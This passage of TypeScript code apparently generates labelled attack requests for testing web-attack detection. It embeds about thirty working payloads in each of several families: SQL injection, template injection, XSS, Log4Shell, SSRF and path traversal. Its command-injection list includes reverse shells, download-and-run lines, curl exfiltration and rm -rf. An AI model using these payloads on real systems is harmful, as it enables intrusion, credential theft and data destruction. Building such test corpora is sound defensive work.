        `${base}&${ctx.queryParams[i % ctx.queryParams.length]}=${encodeURIComponent(payload)}`,
        baseHeaders(),
      );
      return;
    }
    case 'query-double-encoded': {
      const base = getPath(d);
      attackReq(
        fam,
        tech,
        'GET',
        `${base}&${ctx.queryParams[i % ctx.queryParams.length]}=${encodeURIComponent(encodeURIComponent(payload))}`,
        baseHeaders(),
      );
      return;
    }
    case 'header': {
      const h = ctx.headers[i % ctx.headers.length] as string;
      attackReq(fam, tech, 'GET', getPath(d), baseHeaders({ [h]: payload }));
      return;
    }
    case 'graphql-variables': {
      const g = GQL_QUERIES[i % GQL_QUERIES.length] as (typeof GQL_QUERIES)[number];
      const vars = g.vars();
      const key = Object.keys(vars)[0] as string;
      const inner = vars[key];
      const injected =
        typeof inner === 'object' && inner !== null ? { ...(inner as object), [field]: payload } : payload;
      attackReq(
        fam,
        tech,
        'POST',
        '/graphql',
        jsonHeaders(),
        JSON.stringify({ operationName: g.op, query: g.query, variables: { ...vars, [key]: injected } }),
      );
      return;
    }
    case 'json-unicode-escaped': {
      const { path, body } = nestBody(d, field, MARK);
      const esc = i % 2 === 0 ? uEscape(payload) : uEscapeSpecials(payload);
      attackReq(fam, tech, 'POST', path, jsonHeaders(), withRaw(body, esc));
      return;
    }
    case 'json-in-string': {
      const { path, body } = writeBody(d);
      const inner = JSON.stringify({ v: 2, [field]: payload, ts: isoDate() });
      attackReq(
        fam,
        tech,
        'PUT',
        `${path}/${uuid()}`,
        jsonHeaders(),
        JSON.stringify({ ...body, settingsJson: inner }),
      );
      return;
    }
    case 'base64-field': {
      const { path, body } = writeBody(d);
      const encoded = b64(JSON.stringify({ [field]: payload, page: int(1, 9) }));
      attackReq(
        fam,
        tech,
        'POST',
        path,
        jsonHeaders(),
        JSON.stringify({
          ...body,
          cursor: encoded,
          attachment: { encoding: 'base64', contentType: 'application/json' },
        }),
      );
      return;
    }
    case 'form': {
      const p = person();
      attackReq(
        fam,
        tech,
        'POST',
        pick(['/contact/quote', '/volunteer/signup', '/intake/web', '/teams/register']),
        baseHeaders({ 'content-type': 'application/x-www-form-urlencoded' }),
        form({ name: p.name, email: p.email, [field]: payload, consent: 'yes' }),
      );
      return;
    }
    case 'multipart': {
      const mp = multipart([
        {
          name: 'file',
          filename: pick(FILES).filename,
          type: 'application/octet-stream',
          value: 'PK\u0003\u0004',
        },
        { name: field, value: payload },
        { name: 'visibility', value: 'team' },
      ]);
      attackReq(
        fam,
        tech,
        'POST',
        pick(['/api/v2/media', '/api/documents', '/api/intake/attachments', '/v3/disputes/evidence']),
        baseHeaders({ 'content-type': mp.ct }),
        mp.body,
      );
      return;
    }
    case 'ndjson': {
      const lines = [
        JSON.stringify({ event: 'viewed', at: isoDate(), actor: uuid() }),
        JSON.stringify({ event: 'exported', at: isoDate(), actor: uuid() }),
        JSON.stringify({
          event: 'status_changed',
          at: isoDate(),
          actor: uuid(),
          detail: { [field]: payload },
        }),
      ];
      attackReq(
        fam,
        tech,
        'POST',
        '/v1/events/batch',
        baseHeaders({ 'content-type': 'application/x-ndjson' }),
        `${lines.join('\n')}\n`,
      );
      return;
    }
    case 'jsonapi': {
      const { body } = writeBody(d);
      const doc = {
        data: {
          type: 'records',
          attributes: { ...body, [field]: payload },
          relationships: { owner: { data: { type: 'users', id: String(int(1, 9999)) } } },
        },
      };
      attackReq(
        fam,
        tech,
        'POST',
        '/jsonapi/records',
        baseHeaders({ 'content-type': 'application/vnd.api+json', accept: 'application/vnd.api+json' }),
        JSON.stringify(doc),
      );
      return;
    }
    case 'merge-patch': {
      attackReq(
        fam,
        tech,
        'PATCH',
        `/api/v1/profiles/${uuid()}`,
        jsonHeaders('application/merge-patch+json'),
        JSON.stringify({ settings: { notifications: { email: true }, [field]: payload } }),
      );
      return;
    }
    case 'json-key': {
      const { path, body } = writeBody(d);
      attackReq(
        fam,
        tech,
        'POST',
        path,
        jsonHeaders(),
        JSON.stringify({ ...body, customFields: { [payload]: pick(['yes', '1', 'true']), region: 'EU' } }),
      );
      return;
    }
  }
}

const STRING_PLACEMENTS: Placement[] = [
  'json-nested',
  'query',
  'graphql-variables',
  'json-unicode-escaped',
  'header',
  'json-array',
  'json-in-string',
  'base64-field',
  'form',
  'multipart',
  'ndjson',
  'jsonapi',
  'merge-patch',
  'query-double-encoded',
  'json-nested',
];

function runFamily(
  ctx: FamilyCtx,
  payloads: readonly (readonly [string, string])[],
  allowed: Placement[] = STRING_PLACEMENTS,
): void {
  if (payloads.length !== 30) throw new Error(`${ctx.family}: expected 30 payloads, got ${payloads.length}`);
  payloads.forEach(([technique, payload], i) => {
    const placement = allowed[(i * 7 + ctx.family.length) % allowed.length] as Placement;
    placeString(ctx, technique, payload, placement, i);
  });
}

runFamily(
  {
    family: 'sql',
    fields: ['sortBy', 'customerRef', 'filter', 'unitNumber', 'externalId', 'orderBy'],
    headers: ['x-sort', 'x-tenant-id', 'referer', 'x-filter'],
    queryParams: ['sort', 'id', 'q', 'orderBy', 'debtor_id'],
  },
  [
    ['tautology quote', "' OR '1'='1' -- "],
    ['union select credentials', '1 UNION SELECT username, password_hash, NULL FROM users--'],
    ['stacked drop table', "1'; DROP TABLE invoices;--"],
    ['mssql convert error', "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"],
    ['mysql time-based sleep', '1 AND SLEEP(5)'],
    ['mssql waitfor delay', "'; WAITFOR DELAY '0:0:5'--"],
    ['mysql extractvalue error-based', "1' AND extractvalue(1,concat(0x7e,(select @@version)))-- -"],
    [
      'comment-obfuscated union',
      '1/**/UNION/**/SELECT/**/NULL,table_name/**/FROM/**/information_schema.tables#',
    ],
    ['login bypass comment', "admin'/*"],
    ['postgres pg_sleep', "1' OR pg_sleep(5) IS NULL--"],
    ['postgres conditional sleep', "' || (SELECT CASE WHEN (1=1) THEN pg_sleep(3) ELSE pg_sleep(0) END)--"],
    ['numeric tautology', '42 OR 1=1'],
    [
      'mixed-case union group_concat',
      "-1' UnIoN SeLeCt 1,2,group_concat(email,0x3a,password) fRoM customers-- -",
    ],
    ['boolean blind substring', "' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE id=1)='a"],
    ['stacked insert admin', "1; INSERT INTO admins(email, role) VALUES('ops@evil.example','owner')--"],
    ['order-by subquery sleep', 'created_at ASC, (SELECT 1 FROM pg_sleep(4))'],
    ['oracle dbms_pipe delay', "x' AND 1=dbms_pipe.receive_message('a',5)--"],
    ['limit tautology', "' OR 1=1 LIMIT 1 OFFSET 0 -- "],
    ['updatexml error-based', "1' AND updatexml(null,concat(0x3a,user()),null)-- "],
    ['xp_cmdshell stacked', "'; EXEC master..xp_cmdshell 'whoami'--"],
    ['paren-balanced tautology', "') OR ('a'='a"],
    ['order by column probe', "1' ORDER BY 10--"],
    ['double-quote tautology', '" OR ""="'],
    ['ascii substr blind', '1 AND ascii(substr((select database()),1,1))>100'],
    ['load_file read', "'||(SELECT load_file('/etc/passwd'))||'"],
    ['postgres shadow stacked', '1;SELECT usename,passwd FROM pg_shadow--'],
    ['like wildcard break', "%' AND 2>1 AND '%'='"],
    ['rlike conditional', "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- "],
    ['sqlite master enum', "' UNION SELECT name, sql FROM sqlite_master WHERE type='table'--"],
    ['having clause probe', "1' GROUP BY id HAVING 1=1--"],
  ],
  [...STRING_PLACEMENTS, 'json-key'],
);

runFamily(
  {
    family: 'template',
    fields: ['greeting', 'subjectTemplate', 'displayName', 'signature', 'nameFormat', 'footer'],
    headers: ['x-display-name', 'x-locale-format', 'referer', 'x-template'],
    queryParams: ['greeting', 'name', 'format', 'title', 'preview'],
  },
  [
    ['jinja2 class mro subprocess', "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
    ['jinja2 cycler os.popen', "{{ cycler.__init__.__globals__.os.popen('id').read() }}"],
    ['jinja2 lipsum globals', "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"],
    ['jinja2 config items', '{{ config.items() }}'],
    [
      'jinja2 request application',
      "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    ],
    ['twig filter system', "{{ ['id']|filter('system') }}"],
    ['twig map passthru', "{{ ['cat /etc/passwd']|map('passthru')|join }}"],
    ['freemarker execute', '<#assign ex="freemarker.template.utility.Execute"?new()> ${ ex("id") }'],
    [
      'freemarker api classloader',
      '${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve(\'/etc/passwd\').toURL().openStream().readAllBytes()?join(" ")}',
    ],
    ['velocity runtime exec', '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$x'],
    ['spring el runtime', "${T(java.lang.Runtime).getRuntime().exec('id')}"],
    ['spel hash-brace', "#{T(java.lang.Runtime).getRuntime().exec('curl http://203.0.113.7/x')}"],
    ['thymeleaf preprocess', "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"],
    ['erb system', '<%= system("id") %>'],
    ['erb backtick', '<%= `cat /etc/passwd` %>'],
    [
      'handlebars constructor chain',
      '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
    ],
    [
      'nunjucks range constructor',
      "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}",
    ],
    [
      'pug inline code',
      "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}",
    ],
    ['ejs outputFunctionName', "x;process.mainModule.require('child_process').execSync('id');//"],
    ['mako import os', "${__import__('os').popen('id').read()}"],
    ['smarty php function', '{system("id")}'],
    [
      'smarty static method',
      '{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET[\'c\']); ?>",self::clearConfig())}',
    ],
    ['tornado import', "{% import os %}{{ os.popen('id').read() }}"],
    ['django debug settings leak', '{{ settings.SECRET_KEY }}{% debug %}'],
    ['go template method call', '{{ .Request.Context }}{{ call .Exec "id" }}'],
    [
      'jinja2 attr filter bypass',
      "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}",
    ],
    [
      'angularjs sandbox escape',
      '{{constructor.constructor(\'fetch("https://evil.example/"+document.cookie)\')()}}',
    ],
    ['razor process start', '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")'],
    [
      'el expression lambda',
      '${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")}',
    ],
    ['jinja2 namespace init', "{{ namespace.__init__.__globals__.os.popen('uname -a').read() }}"],
  ],
);

runFamily(
  {
    family: 'command',
    fields: ['filename', 'hostname', 'exportFormat', 'imageResize', 'webhookName', 'archiveName'],
    headers: ['x-export-filename', 'x-forwarded-host', 'user-agent', 'x-device-name'],
    queryParams: ['file', 'host', 'format', 'size', 'ping'],
  },
  [
    ['semicolon chained id', 'report.csv; id'],
    ['pipe to shell', 'photo.jpg | cat /etc/passwd'],
    ['and-and chained curl', 'x && curl -s http://198.51.100.23/p.sh | sh'],
    ['subshell dollar-paren', '$(wget -qO- http://198.51.100.23/a|sh)'],
    ['backtick substitution', 'IMG_0001`uname -a`.jpg'],
    ['newline separator', 'export.zip\nnc -e /bin/sh 198.51.100.23 4444'],
    ['ifs space evasion', ';cat${IFS}/etc/passwd'],
    ['brace expansion', ';{cat,/etc/passwd}'],
    ['bash reverse shell', 'a; bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'],
    ['or-or fallback', 'nosuchfile || ping -c 10 127.0.0.1'],
    ['base64 decoded pipe to bash', '; echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC4yMy94fHNo | base64 -d | bash'],
    ['quote splitting evasion', "; w'h'o'am'i"],
    ['variable concatenation evasion', ';a=c;b=at;$a$b /etc/shadow'],
    ['windows ampersand', 'invoice.pdf & whoami'],
    [
      'powershell encoded command',
      '| powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    ],
    ['imagemagick argument injection', '800x600 -write /var/www/html/shell.php'],
    ['ffmpeg concat protocol', '-i concat:/etc/passwd|/dev/null -f null -'],
    ['glob path wildcard', ';/???/??t /???/p??s??'],
    ['hex escape via printf', ";$(printf '\\x69\\x64')"],
    ['tar checkpoint action', '--checkpoint=1 --checkpoint-action=exec=sh shell.sh'],
    ['git ssh command option', '--upload-pack=touch /tmp/pwned'],
    ['nslookup exfil', '`nslookup $(whoami).x.oast.example`'],
    ['sleep timing', '|| sleep 10 ||'],
    ['python one-liner', ';python3 -c \'import os;os.system("id")\''],
    ['perl one-liner', '; perl -e \'exec "/bin/sh"\''],
    ['dollar-brace env leak', 'name-${PATH:0:1}bin${PATH:0:1}id'],
    ['rm rf destructive', 'tmp.txt; rm -rf / --no-preserve-root'],
    ['tab separator', 'a\tid;\tuname'],
    ['curl data exfiltration', ';curl -d @/etc/passwd https://exfil.example.net/u'],
    ['find exec', '; find / -name "*.env" -exec cat {} \\;'],
  ],
);

runFamily(
  {
    family: 'xss',
    fields: ['displayName', 'bio', 'comment', 'altText', 'teamName', 'petName'],
    headers: ['referer', 'x-display-name', 'user-agent', 'x-forwarded-host'],
    queryParams: ['name', 'q', 'redirect', 'callback', 'title'],
  },
  [
    ['script tag', '<script>fetch("https://evil.example/c?"+document.cookie)</script>'],
    ['img onerror', '<img src=x onerror=alert(document.domain)>'],
    ['svg onload', '<svg/onload=alert`1`>'],
    ['javascript uri link', '<a href="javascript:alert(document.cookie)">open preview</a>'],
    [
      'entity-encoded javascript uri',
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ],
    ['attribute breakout', '" autofocus onfocus="alert(1)" x="'],
    ['details ontoggle', '<details open ontoggle=fetch("//evil.example/"+localStorage.token)>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
    ['mixed case script', '<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>'],
    ['body onload', '<body onload=alert(1)>'],
    ['mutation xss noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
    ['svg animate href', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
    ['math mglyph namespace confusion', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
    ['input autofocus', '<input autofocus onfocus=alert(1)>'],
    ['video source onerror', '<video><source onerror="alert(1)"></video>'],
    ['data uri iframe', '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>'],
    ['javascript in js string break', '</script><script>alert(1)</script>'],
    ['template literal break', '`;alert(1);//'],
    ['style expression legacy', '<div style="background:url(javascript:alert(1))">'],
    ['object data', '<object data="javascript:alert(1)"></object>'],
    ['marquee onstart', '<marquee onstart=alert(1)>hi</marquee>'],
    ['markdown javascript link', '[click for prize](javascript:alert(document.cookie))'],
    [
      'form action hijack',
      '<form action="https://evil.example/steal"><input name=password type=password><button>Re-login</button></form>',
    ],
    ['base tag hijack', '<base href="https://evil.example/">'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
    ['tab-split javascript scheme', '<a href="jav\tascript:alert(1)">x</a>'],
    ['eval atob', '<img src=x onerror="eval(atob(\'YWxlcnQoZG9jdW1lbnQuY29va2llKQ==\'))">'],
    ['link import', '<link rel=import href="https://evil.example/x.html">'],
    ['onpointerenter custom element', '<xss onpointerenter=alert(1) style=display:block>hover me</xss>'],
    [
      'polyglot',
      'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
    ],
  ],
  [...STRING_PLACEMENTS, 'json-key'],
);

runFamily(
  {
    family: 'log4shell',
    fields: ['username', 'deviceName', 'note', 'referrerCode', 'callerName', 'gamerTag'],
    headers: [
      'user-agent',
      'x-api-version',
      'x-forwarded-for',
      'referer',
      'x-client-name',
      'accept-language',
    ],
    queryParams: ['ref', 'q', 'utm_source', 'lang', 'device'],
  },
  [
    ['plain jndi ldap', '${jndi:ldap://198.51.100.23:1389/a}'],
    ['jndi rmi', '${jndi:rmi://198.51.100.23:1099/Exploit}'],
    ['jndi dns probe', '${jndi:dns://x7f3.oast.example/a}'],
    ['lower lookup obfuscation', '${${lower:j}ndi:${lower:l}dap://evil.example/o}'],
    ['upper lookup obfuscation', '${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://evil.example/u}'],
    [
      'default value obfuscation',
      '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/x}',
    ],
    [
      'env default obfuscation',
      '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/e}',
    ],
    ['date lookup obfuscation', "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/d}"],
    ['nested exfil env', '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.oast.example/k}'],
    ['sys prop exfil', '${jndi:dns://${sys:java.version}.oast.example/v}'],
    ['ldaps scheme', '${jndi:ldaps://evil.example:636/secure}'],
    ['iiop scheme', '${jndi:iiop://198.51.100.23/obj}'],
    ['corba scheme', '${jndi:corba://198.51.100.23/obj}'],
    ['nis scheme', '${jndi:nis://198.51.100.23/obj}'],
    ['nds scheme', '${jndi:nds://198.51.100.23/obj}'],
    ['http scheme', '${jndi:http://198.51.100.23/a}'],
    ['mixed default and lower', '${j${::-n}d${lower:I}:l${::-d}ap://evil.example/m}'],
    ['hostName exfil', '${jndi:ldap://${hostName}.oast.example/h}'],
    ['main args lookup', '${jndi:ldap://evil.example/${main:0}}'],
    ['base64 lookup', '${jndi:ldap://evil.example/${base64:ZXhwbG9pdA==}}'],
    ['chunked lower lookup', '${${lower:jnd}${lower:i}:ldap://evil.example/chunk}'],
    ['ctx lookup', '${jndi:ldap://evil.example/${ctx:loginId}}'],
    ['java lookup exfil', '${jndi:ldap://${java:os}.oast.example/os}'],
    ['empty default chain', '${${:-j}${:-n}${:-d}${:-i}:${:-r}${:-m}${:-i}://evil.example/r}'],
    ['nested lower upper mix', '${${lower:${upper:j}}${lower:n}${lower:d}i:ldap://evil.example/n}'],
    ['CVE-2021-45046 localhost hash bypass', '${jndi:ldap://127.0.0.1#evil.example:1389/a}'],
    ['sys user exfil', '${jndi:ldap://${sys:user.name}.oast.example/u}'],
    ['k8s lookup exfil', '${jndi:dns://${k8s:podName}.oast.example/p}'],
    ['docker lookup exfil', '${jndi:ldap://${docker:containerId}.oast.example/c}'],
    ['whitespace in default', '${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/w}'],
  ],
  [
    'header',
    'json-nested',
    'query',
    'graphql-variables',
    'json-unicode-escaped',
    'header',
    'json-array',
    'base64-field',
    'ndjson',
    'form',
    'jsonapi',
    'multipart',
    'json-in-string',
    'merge-patch',
    'header',
  ],
);

runFamily(
  {
    family: 'ssrf',
    fields: ['webhookUrl', 'previewUrl', 'avatarUrl', 'callbackUrl', 'imageUrl', 'importFrom'],
    headers: ['x-callback-url', 'x-forwarded-host', 'x-original-url', 'referer'],
    queryParams: ['url', 'callback', 'image', 'feed', 'redirect_uri'],
  },
  [
    ['aws metadata', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
    [
      'gcp metadata',
      'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    ],
    [
      'azure metadata',
      'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/',
    ],
    ['decimal ip', 'http://2852039166/latest/meta-data/'],
    ['hex ip', 'http://0xa9fea9fe/latest/user-data'],
    ['octal ip', 'http://0251.0376.0251.0376/latest/meta-data/'],
    ['ipv6 mapped ipv4', 'http://[::ffff:169.254.169.254]/latest/meta-data/'],
    ['localhost admin', 'http://localhost:8080/admin/users'],
    ['loopback short form', 'http://127.1/server-status'],
    ['zero address', 'http://0.0.0.0:9200/_cat/indices'],
    ['ipv6 loopback', 'http://[::1]:6379/'],
    ['userinfo confusion', 'https://postpilot.app@169.254.169.254/latest/meta-data/'],
    ['fragment confusion', 'http://169.254.169.254#@blog.example.com/'],
    ['wildcard dns rebinding', 'http://169.254.169.254.nip.io/latest/meta-data/'],
    ['file scheme', 'file:///etc/passwd'],
    ['gopher redis', 'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A'],
    ['dict scheme', 'dict://127.0.0.1:11211/stats'],
    ['internal k8s api', 'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets'],
    ['ecs task metadata', 'http://169.254.170.2/v2/credentials/'],
    ['alibaba metadata', 'http://100.100.100.200/latest/meta-data/ram/security-credentials/'],
    ['private range consul', 'http://10.0.0.12:8500/v1/agent/self'],
    ['docker socket http', 'http://172.17.0.1:2375/containers/json'],
    ['redirector open redirect', 'https://blog.example.com/out?to=http://169.254.169.254/latest/meta-data/'],
    ['unicode dot ip', 'http://169。254。169。254/latest/meta-data/'],
    ['enclosed alphanumerics', 'http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/'],
    ['jar scheme', 'jar:http://127.0.0.1:8000/x.jar!/'],
    ['ldap scheme local', 'ldap://127.0.0.1:389/dc=internal'],
    ['oracle cloud metadata', 'http://192.0.0.192/latest/meta-data/'],
    ['digitalocean metadata', 'http://169.254.169.254/metadata/v1.json'],
    ['backslash parser confusion', 'http://blog.example.com\\@127.0.0.1:8500/v1/kv/?recurse'],
  ],
);

runFamily(
  {
    family: 'path-traversal',
    fields: ['filename', 'exportPath', 'template', 'attachmentPath', 'avatarFile', 'locale'],
    headers: ['x-file-name', 'x-template-path', 'x-original-url', 'x-rewrite-url'],
    queryParams: ['file', 'path', 'template', 'download', 'lang'],
  },
  [
    ['dot-dot etc passwd', '../../../../etc/passwd'],
    ['deep traversal shadow', '../../../../../../../../etc/shadow'],
    ['windows backslash', '..\\..\\..\\windows\\win.ini'],
    ['url-encoded dots', '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd'],
    ['double-encoded', '%252e%252e%252f%252e%252e%252fetc%252fpasswd'],
    ['overlong utf8', '%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd'],
    ['dot-dot-slash filter bypass', '....//....//....//etc/passwd'],
    ['null byte extension', '../../../etc/passwd%00.png'],
    ['absolute path', '/etc/passwd'],
    ['proc self environ', '../../../../proc/self/environ'],
    ['app env file', '../../../.env'],
    ['ssh private key', '../../../../root/.ssh/id_rsa'],
    ['k8s service account token', '../../../../var/run/secrets/kubernetes.io/serviceaccount/token'],
    ['windows absolute unc', '\\\\?\\C:\\Windows\\System32\\config\\SAM'],
    ['mixed separators', '..\\/..\\/..\\/etc/passwd'],
    ['zip slip entry', 'uploads/../../../../var/www/html/shell.php'],
    ['aws credentials', '../../../../home/app/.aws/credentials'],
    ['unicode slash', '..%u2215..%u2215..%u2215etc%u2215passwd'],
    ['fullwidth dots', '．．/．．/．．/etc/passwd'],
    ['file scheme uri', 'file:///etc/passwd'],
    ['php filter wrapper', 'php://filter/convert.base64-encode/resource=../config.php'],
    ['semicolon path param', '..;/..;/..;/WEB-INF/web.xml'],
    ['java web-inf', '../../WEB-INF/web.xml'],
    ['git config leak', '../../../.git/config'],
    ['nginx alias off-by-slash', 'static../etc/nginx/nginx.conf'],
    ['locale include', '../../../../../../usr/share/locale/../../../etc/hosts'],
    ['encoded backslash', '..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts'],
    ['docker env', '../../../../proc/1/environ'],
    ['node modules config', '../../../node_modules/../config/secrets.json'],
    ['trailing dot windows', '..\\..\\..\\boot.ini.'],
  ],
);

// NoSQL: operator objects where a scalar is expected.
const NOSQL: [string, Placement | 'query-brackets' | 'form-brackets' | 'raw-json', unknown][] = [
  ['$ne null login bypass', 'json-nested', { $ne: null }],
  ['$gt empty string', 'json-nested', { $gt: '' }],
  ['$regex prefix enumeration', 'graphql-variables', { $regex: '^adm', $options: 'i' }],
  ['$where sleep', 'json-nested', { $where: 'sleep(5000) || true' }],
  ['$where js tautology string', 'json-in-string', { $where: 'this.password.length > 0' }],
  ['query bracket $ne', 'query-brackets', 'username[$ne]=nobody&password[$ne]=x'],
  ['query bracket $regex', 'query-brackets', 'email[$regex]=.*&email[$options]=si'],
  ['query bracket $gt', 'query-brackets', 'apiKey[$gt]=&role=admin'],
  ['form bracket $ne', 'form-brackets', 'username=admin&password[$ne]=wrong'],
  ['form bracket $exists', 'form-brackets', 'email[$exists]=true&password[$exists]=true'],
  ['$or always-true', 'json-nested', { $or: [{}, { a: 'a' }] }],
  ['$expr comparison', 'jsonapi', { $expr: { $gt: ['$balance', 0] } }],
  [
    '$function server-side js',
    'json-nested',
    { $function: { body: 'function() { sleep(3000); return true; }', args: [], lang: 'js' } },
  ],
  [
    '$accumulator js',
    'base64-field',
    {
      $accumulator: {
        init: 'function(){ return require("child_process") }',
        accumulate: 'function(s){return s}',
        accumulateArgs: [],
        merge: 'function(a){return a}',
        lang: 'js',
      },
    },
  ],
  [
    'aggregation $lookup injection',
    'json-array',
    { $lookup: { from: 'users', localField: 'owner', foreignField: '_id', as: 'u' } },
  ],
  ['$in enumeration', 'merge-patch', { $in: ['admin', 'root', 'superuser'] }],
  ['$nin empty bypass', 'ndjson', { $nin: [] }],
  ['$exists true', 'graphql-variables', { $exists: true }],
  ['unicode-escaped $ne', 'raw-json', '{"email":"shelter.admin@example.org","password":{"\\u0024ne":"x"}}'],
  [
    'unicode-escaped $where',
    'raw-json',
    '{"filter":{"caseId":{"\\u0024where":"function(){return true}"}},"limit":500}',
  ],
  ['js injection in $where string', 'json-nested', "'; return true; var x='"],
  [
    'couchdb selector $gt null',
    'raw-json',
    '{"selector":{"_id":{"$gt":null}},"fields":["_id","ssn","notes"],"limit":10000}',
  ],
  ['$jsonSchema probe', 'json-nested', { $jsonSchema: { required: ['passwordHash'] } }],
  ['$elemMatch role escalation', 'merge-patch', { $elemMatch: { role: 'admin' } }],
  [
    '$set update operator injection',
    'raw-json',
    '{"displayName":"Mika","$set":{"role":"admin","verified":true}}',
  ],
  ['$rename field clobber', 'raw-json', '{"$rename":{"passwordHash":"displayName"}}'],
  ['mongo shell js in search', 'query', "1'; db.users.find().forEach(function(u){ sleep(100) }); var a='"],
  ['$regex ReDoS', 'json-nested', { $regex: '^(a+)+$' }],
  ['$where in graphql filter', 'graphql-variables', { $where: 'Object.keys(this).length > 0' }],
  ['$text search operator', 'json-in-string', { $text: { $search: '-' } }],
];
if (NOSQL.length !== 30) throw new Error(`nosql: expected 30, got ${NOSQL.length}`);
const nosqlCtx: FamilyCtx = {
  family: 'nosql',
  fields: ['password', 'email', 'apiKey', 'unitId', 'caseId', 'annotatorId'],
  headers: ['x-filter'],
  queryParams: ['filter', 'id'],
};
NOSQL.forEach(([technique, placement, value], i) => {
  const d = domainAt(i + 2);
  const field = nosqlCtx.fields[i % nosqlCtx.fields.length] as string;
  if (placement === 'query-brackets') {
    attackReq(
      'nosql',
      `${technique}; query`,
      'GET',
      `${pick(['/api/v1/login', '/api/users', '/v1/tenants/lookup', '/api/annotators'])}?${value as string}`,
      baseHeaders(),
    );
  } else if (placement === 'form-brackets') {
    attackReq(
      'nosql',
      `${technique}; form`,
      'POST',
      '/login',
      baseHeaders({ 'content-type': 'application/x-www-form-urlencoded' }),
      value as string,
    );
  } else if (placement === 'raw-json') {
    attackReq(
      'nosql',
      `${technique}; json-body`,
      'POST',
      pick(['/api/v1/login', '/api/intake/cases/search', '/api/v1/profiles/me', '/_find']),
      jsonHeaders(),
      value as string,
    );
  } else if (typeof value === 'string') {
    placeString(nosqlCtx, technique, value, placement, i);
  } else {
    switch (placement) {
      case 'json-nested': {
        const { path, body } = nestBody(d, field, value);
        attackReq('nosql', `${technique}; json-nested`, 'POST', path, jsonHeaders(), JSON.stringify(body));
        break;
      }
      case 'graphql-variables': {
        const query = 'query Lookup($filter: JSON!) { records(filter: $filter) { id email createdAt } }';
        attackReq(
          'nosql',
          `${technique}; graphql-variables`,
          'POST',
          '/graphql',
          jsonHeaders(),
          JSON.stringify({ operationName: 'Lookup', query, variables: { filter: { [field]: value } } }),
        );
        break;
      }
      case 'json-in-string': {
        const { path, body } = writeBody(d);
        attackReq(
          'nosql',
          `${technique}; json-in-string`,
          'POST',
          path,
          jsonHeaders(),
          JSON.stringify({ ...body, where: JSON.stringify({ [field]: value }) }),
        );
        break;
      }
      case 'base64-field': {
        attackReq(
          'nosql',
          `${technique}; base64-field`,
          'GET',
          `/api/v1/animals?cursor=${encodeURIComponent(b64(JSON.stringify({ filter: { [field]: value }, after: uuid() })))}`,
          baseHeaders(),
        );
        break;
      }
      case 'jsonapi': {
        attackReq(
          'nosql',
          `${technique}; jsonapi`,
          'POST',
          '/jsonapi/invoices/query',
          baseHeaders({ 'content-type': 'application/vnd.api+json', accept: 'application/vnd.api+json' }),
